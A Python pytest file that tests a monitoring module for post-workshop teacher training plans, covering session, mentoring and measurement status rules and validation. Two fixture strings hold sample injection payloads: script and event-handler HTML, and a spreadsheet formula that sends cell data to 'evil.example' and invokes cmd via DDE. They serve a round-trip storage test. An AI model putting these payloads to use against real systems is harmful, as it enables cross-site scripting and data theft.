"""Monitoring: the log's models, and the status rules at their edges, as of a date."""

from __future__ import annotations

import json
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from totkit.errors import InputError
from totkit.model import Workbook, parse, parse_section, progress
from totkit.monitoring import (
    CAUSES,
    MAX_ENTRIES,
    MAX_TEXT,
    Measurement,
    Monitoring,
    Obstacle,
    Reflection,
    SessionHeld,
    first_number,
    last_activity,
    reach_against_projection,
    sessions_due,
    status,
    status_of,
)
from totkit.settings import Settings, load_settings

TOT_END = date(2026, 8, 7)  # day 0
SETTINGS = Settings()
HTML = '<script>alert("x")</script><b onmouseover="steal()">bold</b> &amp; <!-- c -->'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik") +SUM(1,2) -2+3 @cmd|\'/c calc\'!A0'
DATA = Path(__file__).parent / "data"


def day(n: int) -> date:
    """Day ``n`` after the TOT's last day."""
    return TOT_END + timedelta(days=n)


def workbook(
    plan: dict | None = None, monitoring: dict | None = None, answers: dict | None = None
) -> Workbook:
    return Workbook(
        id="wb1",
        workshop="TOT Pembelajaran Aktif",
        created_at=datetime(2026, 8, 1, tzinfo=timezone.utc),
        profile={"name": "Sri Wahyuni"},
        diagnostic={"answers": answers or {}},
        plan=plan or {},
        monitoring=monitoring or {},
    )


def session(sid: str, n: int, participants: int = 10) -> dict:
    return {"id": sid, "title": f"Sesi {sid}", "date": day(n).isoformat(),
            "participants": participants}


def held(n: int, participants: int = 10, planned: str | None = None, **more) -> dict:
    return {"planned": planned, "date": day(n).isoformat(), "participants": participants,
            **more}


def check(book: Workbook, as_of_day: int, **kwargs):
    kwargs.setdefault("tot_end", TOT_END)
    kwargs.setdefault("settings", SETTINGS)
    return status(book, as_of=day(as_of_day), **kwargs)


# -- the status rules at their edges -----------------------------------------------------------


def test_stalled_from_the_45th_day_after_the_last_activity_while_something_is_due():
    book = workbook(
        {"sessions": [session("s1", 10), session("s2", 30)]},
        {"sessions_held": [held(12, planned="s1")]},
    )
    day_44 = check(book, 12 + 44)
    assert (day_44.status, day_44.days_since_last_activity) == ("behind", 44)
    assert day_44.something_due and day_44.sessions_overdue == ("s2",)
    day_45 = check(book, 12 + 45)
    assert (day_45.status, day_45.days_since_last_activity) == ("stalled", 45)
    assert day_45.last_activity == day(12)


def test_with_nothing_done_the_days_count_from_the_tots_last_day():
    book = workbook({"sessions": [session("s1", 30)]})
    assert check(book, 44).status == "behind"
    fifty = check(book, 50)
    assert fifty.status == "stalled"
    assert fifty.last_activity is None and fifty.days_since_last_activity == 50
    assert fifty.day == 50


def test_nothing_due_is_never_stalled():
    book = workbook({"sessions": [session("s1", 100)],
                     "indicators": [{"id": "i1", "statement": "Guru mencoba",
                                     "level": "application",
                                     "measurement_dates": [day(120).isoformat()]}]})
    result = check(book, 90)
    assert result.days_since_last_activity == 90 >= SETTINGS.stalled_days
    assert not result.something_due
    assert (result.status, result.sessions_due, result.sessions_held) == ("on_track", 0, 0)


def test_a_quiet_planner_is_on_track_when_what_is_due_is_done():
    book = workbook({"sessions": [session("s1", 10), session("s2", 200)]},
                    {"sessions_held": [held(10, planned="s1")]})
    result = check(book, 100)
    assert result.days_since_last_activity == 90 and not result.something_due
    assert result.status == "on_track"


def test_done_when_every_session_is_held_and_every_indicator_measured():
    plan = {
        "sessions": [session("s1", 10), session("s2", 30)],
        "mentoring": [{"id": "m1", "date": day(20).isoformat(), "mentor": "Pak Budi"}],
        "indicators": [{"id": "i1", "statement": "Guru mencoba diskusi", "level": "application",
                        "measurement_dates": [day(40).isoformat(), day(150).isoformat()]}],
    }
    log = {
        "sessions_held": [held(11, planned="s1"), held(29, planned="s2")],
        "measurements": [{"indicator": "i1", "value": "5 dari 12 guru", "date": day(40)}],
    }
    # 200 days on, the touchpoint never happened and a measurement date is missed: still done.
    result = check(workbook(plan, log), 200)
    assert result.something_due and result.days_since_last_activity == 160
    assert result.status == "done"
    assert result.message("en").startswith("Done") and result.message("id").startswith("Selesai")


def test_not_done_while_an_indicator_is_unmeasured_or_a_session_not_held():
    plan = {"sessions": [session("s1", 10)],
            "indicators": [{"id": "i1", "statement": "x", "level": "results"}]}
    no_measure = check(workbook(plan, {"sessions_held": [held(10, planned="s1")]}), 20)
    assert no_measure.status == "on_track"
    # An unplanned session does not realise s1, whatever the count says.
    unplanned = {"sessions_held": [held(10)],
                 "measurements": [{"indicator": "i1", "value": "ok", "date": day(15)}]}
    result = check(workbook(plan, unplanned), 20)
    assert result.status == "on_track" and result.sessions_overdue == ("s1",)


def test_a_plan_without_sessions_is_never_done():
    assert check(workbook(), 10).status == "on_track"


def test_behind_when_fewer_sessions_are_held_than_are_due():
    book = workbook({"sessions": [session("s1", 10), session("s2", 20), session("s3", 60)]},
                    {"sessions_held": [held(15, planned="s1")]})
    result = check(book, 25)
    assert (result.status, result.sessions_due, result.sessions_held) == ("behind", 2, 1)
    assert result.message("en") == "Behind: 1 sessions held of the 2 due by now. " \
        "Reschedule the sessions you missed."


def test_stalled_comes_before_behind_and_follows_the_settings():
    book = workbook({"sessions": [session("s1", 10)]})
    assert check(book, 30).status == "behind"
    assert check(book, 30, settings=Settings(stalled_days=30)).status == "stalled"


def test_a_clock_without_a_tot_day_never_stalls():
    result = check(workbook({"sessions": [session("s1", 10)]}), 400, tot_end=None)
    assert result.days_since_last_activity is None and result.day is None
    assert result.status == "behind"


def test_a_measurement_before_the_tot_does_not_start_the_clock_early():
    book = workbook(
        {"sessions": [session("s1", 10)],
         "indicators": [{"id": "i1", "statement": "x", "level": "results"}]},
        {"measurements": [{"indicator": "i1", "value": "baseline", "date": day(-20)}]},
    )
    result = check(book, 44)
    assert result.last_activity == day(-20) and result.days_since_last_activity == 44
    assert result.status == "behind"


def test_mentoring_due_and_missed_counts_as_something_due():
    book = workbook({"mentoring": [{"id": "m1", "date": day(20).isoformat()},
                                   {"id": "m2", "date": day(90).isoformat()}]},
                    {"mentoring_held": [{"planned": "m2", "date": day(5)}]})
    result = check(book, 50)
    assert (result.mentoring_due, result.mentoring_held) == (1, 1)
    assert result.mentoring_overdue == ("m1",)
    assert result.status == "stalled"  # day 5 to day 50


def test_a_measurement_due_and_not_taken_counts_as_something_due():
    book = workbook({"indicators": [{"id": "i1", "statement": "x", "level": "results",
                                     "measurement_dates": [day(30).isoformat()]}]})
    assert check(book, 29).something_due is False
    result = check(book, 45)
    assert result.something_due and result.status == "stalled"
    assert result.indicator_progress[0].overdue


# -- activity is dated by when it happened -------------------------------------------------------


def test_a_session_logged_late_counts_at_its_own_date():
    plan = {"sessions": [session("s1", 10), session("s2", 20)]}
    # Logged in this order: the day-40 session first, the day-15 one remembered later.
    log = {"sessions_held": [held(40, 7, planned="s2"), held(15, 9, planned="s1")]}
    result = check(workbook(plan, log), 30)
    assert (result.sessions_held, result.people_reached) == (1, 9)
    assert result.last_activity == day(15)
    assert result.sessions_overdue == ("s2",)
    assert last_activity(workbook(plan, log).monitoring, day(14)) is None


def test_a_session_dated_after_as_of_does_not_count_yet():
    book = workbook({"sessions": [session("s1", 10)]},
                    {"sessions_held": [held(60, 20, planned="s1")]})
    before = check(book, 59)
    assert (before.sessions_held, before.people_reached, before.status) == (0, 0, "stalled")
    on_the_day = check(book, 60)
    assert (on_the_day.sessions_held, on_the_day.people_reached) == (1, 20)
    assert on_the_day.status == "done"


def test_sessions_due_are_the_dated_ones_on_or_before_as_of():
    book = workbook({"sessions": [session("s1", 10), session("s2", 11),
                                  {"id": "s3", "title": "Belum dijadwalkan"}]})
    assert [s.id for s in sessions_due(book.plan, day(10))] == ["s1"]
    assert [s.id for s in sessions_due(book.plan, day(1000))] == ["s1", "s2"]


def test_as_of_defaults_to_today():
    result = status(workbook(), tot_end=TOT_END)
    assert result.as_of == date.today()


# -- unplanned sessions and references -----------------------------------------------------------


def test_unplanned_sessions_count_toward_held_and_reached():
    book = workbook({"sessions": [session("s1", 10), session("s2", 20)]},
                    {"sessions_held": [held(12, 8, planned="s1", hours=2),
                                       held(18, 5, hours=1.5),
                                       held(19, 4, planned="s9")]})
    result = check(book, 25)
    assert (result.sessions_due, result.sessions_held, result.sessions_unplanned) == (2, 3, 2)
    assert result.people_reached == 17 and result.hours_held == 3.5
    assert result.status == "on_track"  # 3 held >= 2 due, though s2 itself is not realised
    assert result.sessions_overdue == ("s2",)
    assert result.unknown_references == ("sessions_held/sh3",)


def test_measurements_of_unknown_indicators_are_named_not_counted():
    book = workbook({"indicators": [{"id": "i1", "statement": "x", "level": "results"}]},
                    {"measurements": [{"indicator": "i7", "value": "3", "date": day(3)}]})
    result = check(book, 10)
    assert result.unknown_references == ("measurements/me1",)
    assert not result.indicator_progress[0].measured


def test_commitments_received_and_obstacles_by_cause():
    book = workbook(
        {"commitments": [{"kind": "assignment_letter", "status": "received"},
                         {"kind": "protected_time", "status": "agreed"},
                         {"kind": "facility", "status": "received"}]},
        {"obstacles": [{"date": day(5), "cause": "structural", "text": "Jadwal padat"},
                       {"date": day(6), "cause": "structural"},
                       {"date": day(7), "cause": "culture_leadership"},
                       {"date": day(99), "cause": "other"}]},
    )
    result = check(book, 10)
    assert (result.commitments_received, result.commitments_total) == (2, 3)
    assert list(result.obstacles) == list(CAUSES)
    assert result.obstacles["structural"] == 2 and result.obstacles["culture_leadership"] == 1
    assert result.obstacles["other"] == 0  # dated after as_of
    assert result.last_activity is None  # obstacles are not activity


# -- indicators' progress ----------------------------------------------------------------------


def test_indicator_progress_takes_the_latest_measurement_as_of_the_date():
    plan = {"indicators": [{"id": "i1", "statement": "Guru menerapkan diskusi kelompok",
                            "level": "application", "baseline": "2 dari 12 guru",
                            "target": "8 dari 12 guru",
                            "measurement_dates": [day(60).isoformat(), day(120).isoformat()]}]}
    log = {"measurements": [
        {"indicator": "i1", "value": "7 dari 12 guru", "number": 7, "date": day(118),
         "source": "Observasi kelas", "kind": "observed"},
        {"indicator": "i1", "value": "4 dari 12 guru", "number": 4, "date": day(58)},
        {"indicator": "i1", "value": "9 dari 12 guru", "number": 9, "date": day(170)},
    ]}
    result = check(workbook(plan, log), 130)
    progress_ = result.indicator_progress[0]
    assert progress_.measured and (progress_.measurements, progress_.measurements_due) == (2, 2)
    assert progress_.latest.value == "7 dari 12 guru" and progress_.latest.kind == "observed"
    assert progress_.share == round((7 - 2) / (8 - 2), 4)
    assert (progress_.baseline, progress_.target) == ("2 dari 12 guru", "8 dari 12 guru")
    assert check(workbook(plan, log), 100).indicator_progress[0].share == round(2 / 6, 4)


@pytest.mark.parametrize(
    ("baseline", "target", "number", "share"),
    [
        ("", "80%", 40, 0.5),  # no baseline figure: from 0
        ("20 siswa absen", "5 siswa absen", 10, round(10 / 15, 4)),  # a target that goes down
        ("Belum ada", "Semua guru", 3, None),  # no figure in the target
        ("5", "5", 6, None),
        ("1,5 jam", "3 jam", 3, 1.0),
    ],
)
def test_share_needs_figures_in_the_target(baseline, target, number, share):
    plan = {"indicators": [{"id": "i1", "statement": "x", "level": "results",
                            "baseline": baseline, "target": target}]}
    log = {"measurements": [{"indicator": "i1", "value": "v", "number": number, "date": day(3)}]}
    assert check(workbook(plan, log), 10).indicator_progress[0].share == share


def test_first_number_reads_either_decimal_mark():
    assert first_number("8 dari 12 guru") == 8
    assert first_number("rata-rata 7,5") == 7.5 and first_number("7.5") == 7.5
    assert first_number("tidak ada") is None


# -- realised against projected ----------------------------------------------------------------


def test_reach_against_the_projection_hand_computed():
    from totkit.cascade import CascadeSettings

    plan = {"sessions": [session("s1", 10, 12), session("s2", 30, 10), session("s3", 90, 8)]}
    log = {"sessions_held": [held(11, 9, planned="s1"), held(25, 6), held(95, 30)]}
    settings = CascadeSettings(team=2, readiness_p={"developing": 0.5, "ready": 0.85})
    reach = reach_against_projection(workbook(plan, log), None, as_of=day(40),
                                     tot_end=TOT_END, settings=settings)
    # Due by day 40: s1 (12) and s2 (10), so 22 planned participants per trainer.
    assert reach["sessions_due"] == 2 and reach["planned_participants"] == 22
    assert reach["team"] == 2 and reach["on_paper"] == 44  # 2 x 22, p = 1
    assert reach["band"] == "developing" and reach["band_assumed"] is True  # no index
    assert reach["p"] == 0.5 and reach["realistic"] == 22  # 44 x 0.5
    assert reach["realised"] == 15  # 9 + 6; the day-95 session is after as_of
    assert reach["share_of_paper"] == round(15 / 44, 4)
    assert reach["share_of_realistic"] == round(15 / 22, 4)
    assert reach["day"] == 40
    json.dumps(reach)


def test_reach_uses_the_planners_band_and_the_given_team():
    from totkit.cascade import CascadeSettings
    from totkit.instrument import load_instrument

    instrument = load_instrument(DATA / "mini-instrument.yaml")
    answers = {"sel_1": 5, "sel_2": 5, "sel_3": 5, "sup_1": 5, "sup_2": 5, "sup_3": 5,
               "pra_1": 5, "pra_2": 5, "pra_3": 1}
    book = workbook({"sessions": [session("s1", 10, 12), session("s2", 30, 9)]},
                    {"sessions_held": [held(12, 10, planned="s1")]}, answers)
    settings = CascadeSettings(readiness_p={"low": 0.2, "high": 0.9, "developing": 0.5})
    reach = reach_against_projection(book, instrument, as_of=day(20), settings=settings, team=3)
    assert (reach["band"], reach["band_assumed"], reach["p"]) == ("high", False, 0.9)
    assert reach["on_paper"] == 36 and reach["realistic"] == pytest.approx(32.4)
    assert reach["realised"] == 10 and reach["day"] is None


def test_reach_with_nothing_due_has_no_share():
    reach = reach_against_projection(workbook({"sessions": [session("s1", 10)]}), None,
                                     as_of=day(5), tot_end=TOT_END)
    assert (reach["on_paper"], reach["realistic"], reach["realised"]) == (0, 0, 0)
    assert reach["share_of_paper"] is None and reach["share_of_realistic"] is None


def test_realised_and_projected_agree_with_status():
    book = workbook({"sessions": [session("s1", 10, 12)]},
                    {"sessions_held": [held(10, 11, planned="s1"), held(12, 3)]})
    assert reach_against_projection(book, None, as_of=day(20))["realised"] == \
        check(book, 20).people_reached == 14


# -- the models --------------------------------------------------------------------------------


def test_ids_are_given_in_each_list_and_duplicates_refused():
    log = parse(Monitoring, {"sessions_held": [held(1), held(2)],
                             "mentoring_held": [{"date": day(3)}],
                             "measurements": [{"indicator": "i1", "value": "x", "date": day(4)}],
                             "obstacles": [{"date": day(5), "cause": "no_mentoring"}]})
    assert [s.id for s in log.sessions_held] == ["sh1", "sh2"]
    assert (log.mentoring_held[0].id, log.measurements[0].id, log.obstacles[0].id) == \
        ("mh1", "me1", "ob1")
    with pytest.raises(InputError) as caught:
        parse(Monitoring, {"sessions_held": [{**held(1), "id": "a"}, {**held(2), "id": "a"}]})
    assert (caught.value.key, caught.value.field) == ("error.plan_duplicate_id",
                                                      "monitoring_sessions_held")


def test_editing_returns_a_new_validated_log():
    log = Monitoring().add("sessions_held", held(3, 5))
    log = log.add("obstacles", {"date": day(4), "cause": "context_gap", "text": "Tidak ada LCD"})
    log = log.replace("sessions_held", "sh1", held(3, 6, planned="s1"))
    assert log.sessions_held[0].participants == 6 and log.sessions_held[0].id == "sh1"
    log = log.with_reflection({"helped": "Surat tugas", "blocked": "Ujian", "next": "KKG"})
    assert log.reflection.next == "KKG"
    assert log.remove("obstacles", "ob1").obstacles == []
    with pytest.raises(InputError) as caught:
        log.remove("obstacles", "ob9")
    assert caught.value.key == "error.plan_no_entry"


def test_obstacle_causes_are_the_essays_seven_and_other():
    assert CAUSES == ("certificates", "structural", "no_mentoring", "context_gap",
                      "motivation_peers", "culture_leadership", "process_evaluation", "other")
    for cause in CAUSES:
        assert Obstacle(date=day(1), cause=cause).cause == cause
    with pytest.raises(InputError) as caught:
        parse(Monitoring, {"obstacles": [{"date": day(1), "cause": "laziness"}]})
    assert (caught.value.key, caught.value.field) == ("error.choice", "monitoring_cause")
    assert caught.value.params["path"] == "obstacles.0.cause"
    assert caught.value.params["entry"] == 1
    assert "Penyebab" in caught.value.message("id") and "Cause" in caught.value.message("en")


def test_reflection_texts_hold_up_to_the_limit():
    assert len(Reflection(helped="x" * MAX_TEXT).helped) == MAX_TEXT == 2000
    for name in ("helped", "blocked", "next"):
        with pytest.raises(InputError) as caught:
            parse(Monitoring, {"reflection": {name: "x" * (MAX_TEXT + 1)}})
        assert (caught.value.key, caught.value.field) == ("error.too_long", f"monitoring_{name}")
        assert caught.value.params["max"] == MAX_TEXT
        assert "2000" in caught.value.message("en")


def test_lists_hold_up_to_the_limit():
    full = {"obstacles": [{"date": day(1), "cause": "other"}] * MAX_ENTRIES}
    assert len(parse(Monitoring, full).obstacles) == MAX_ENTRIES == 200
    with pytest.raises(InputError) as caught:
        parse(Monitoring, {"obstacles": [{"date": day(1), "cause": "other"}] * 201})
    assert (caught.value.key, caught.value.field) == ("error.plan_list_full",
                                                      "monitoring_obstacles")
    with pytest.raises(InputError):
        parse(Monitoring, full).add("obstacles", {"date": day(1), "cause": "other"})


@pytest.mark.parametrize(
    ("entry", "field", "key"),
    [
        ({"date": "17/08/2026", "participants": 3}, "monitoring_date", "error.plan_date"),
        ({"date": "1999-12-31", "participants": 3}, "monitoring_date", "error.plan_date_range"),
        ({"participants": 3}, "monitoring_date", "error.required"),
        ({"date": "2026-09-01", "participants": -1}, "monitoring_participants",
         "error.plan_whole_number"),
        ({"date": "2026-09-01", "participants": 2.5}, "monitoring_participants",
         "error.plan_whole_number"),
        ({"date": "2026-09-01", "participants": 3, "hours": 0}, "monitoring_hours",
         "error.plan_hours"),
        ({"date": "2026-09-01", "participants": 3, "planned": "s 1"}, "monitoring_planned",
         "error.plan_reference"),
        ({"date": "2026-09-01", "participants": 3, "notes": "a\x00b"}, "monitoring_notes",
         "error.plan_control_character"),
        ({"date": "2026-09-01", "participants": 3, "venue": "x"}, "venue",
         "error.unknown_field"),
    ],
)
def test_a_bad_session_names_its_field(entry, field, key):
    with pytest.raises(InputError) as caught:
        parse(Monitoring, {"sessions_held": [held(1), entry]})
    assert (caught.value.field, caught.value.key) == (field, key)
    assert caught.value.params["path"].startswith("sessions_held.1.")
    for lang in ("id", "en"):
        assert caught.value.message(lang)


def test_measurement_values_are_text_with_an_optional_figure():
    numeric = Measurement(indicator="i1", value=7.5, date=day(1))
    assert (numeric.value, numeric.number, numeric.kind) == ("7.5", 7.5, "self_reported")
    big = Measurement(indicator="i1", value=1234567, date=day(1))
    assert (big.value, big.number) == ("1234567", 1234567)
    text = Measurement(indicator="i1", value="8 dari 12 guru", date=day(1), kind="observed")
    assert text.number is None
    with pytest.raises(InputError) as caught:
        parse(Measurement, {"indicator": "i1", "value": "x", "number": "banyak", "date": day(1)})
    assert (caught.value.field, caught.value.key) == ("monitoring_number",
                                                      "error.monitoring_number")
    with pytest.raises(InputError) as caught:
        parse(Measurement, {"indicator": "i1", "value": "x", "date": day(1), "kind": "guess"})
    assert caught.value.field == "monitoring_kind"
    with pytest.raises(InputError) as caught:
        parse(Measurement, {"indicator": "i1", "value": "  ", "date": day(1)})
    assert (caught.value.field, caught.value.key) == ("monitoring_value", "error.required")


def test_an_empty_plan_link_is_no_link():
    assert SessionHeld(planned="", date=day(1), participants=1).planned is None
    assert SessionHeld(planned="  ", date=day(1), participants=1).planned is None


def test_html_and_formulas_are_stored_verbatim():
    log = {
        "sessions_held": [held(1, notes=HTML)],
        "mentoring_held": [{"date": day(2), "mentor": FORMULA, "notes": HTML}],
        "measurements": [{"indicator": "i1", "value": FORMULA, "source": HTML, "date": day(3)}],
        "obstacles": [{"date": day(4), "cause": "other", "text": FORMULA + "\n" + HTML}],
        "reflection": {"helped": HTML, "blocked": FORMULA, "next": "line one\r\nline two\t✓"},
    }
    again = Workbook.from_json(workbook(monitoring=log).to_json()).monitoring
    assert again.sessions_held[0].notes == HTML
    assert again.mentoring_held[0].mentor == FORMULA
    assert (again.measurements[0].value, again.measurements[0].source) == (FORMULA, HTML)
    assert again.obstacles[0].text == FORMULA + "\n" + HTML
    assert again.reflection == Reflection(helped=HTML, blocked=FORMULA,
                                          next="line one\r\nline two\t✓")


def test_the_placeholder_shape_still_loads():
    old = {"sessions_held": [], "measurements": [], "obstacles": [], "reflection": ""}
    assert parse_section("monitoring", old) == Monitoring()
    kept = parse(Monitoring, {**old, "reflection": "Catatan lama"})
    assert kept.reflection.helped == "Catatan lama"


def test_progress_counts_a_started_log():
    assert progress(workbook())["monitoring"] == 0.0
    assert progress(workbook(monitoring={"sessions_held": [held(1)]}))["monitoring"] == 1.0


# -- results as JSON, settings and loading -------------------------------------------------------


def test_status_as_json_in_both_languages():
    book = workbook({"sessions": [session("s1", 10)]})
    data = check(book, 50).to_dict()
    json.dumps(data)
    assert data["status"] == "stalled" and data["as_of"] == day(50).isoformat()
    assert "50" in data["message"]["en"] and "50" in data["message"]["id"]
    assert data["message"]["id"] != data["message"]["en"]


def test_stalled_days_is_a_whole_number_in_the_settings_file(tmp_path):
    assert load_settings().stalled_days == 45 == Settings().stalled_days
    (tmp_path / "settings.yaml").write_text("stalled_days: 30\n", encoding="utf-8")
    assert load_settings(tmp_path).stalled_days == 30
    (tmp_path / "settings.yaml").write_text("stalled_days: 30.5\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_settings(tmp_path)
    assert (caught.value.key, caught.value.field) == ("error.settings_whole_days",
                                                      "stalled_days")


def test_status_of_reads_the_tot_day_from_the_header():
    plan = {"header": {"tot_end": TOT_END.isoformat()}, "sessions": [session("s1", 10)]}
    result = status_of(workbook(plan), as_of=day(45))
    assert result.status == "stalled" and result.day == 45
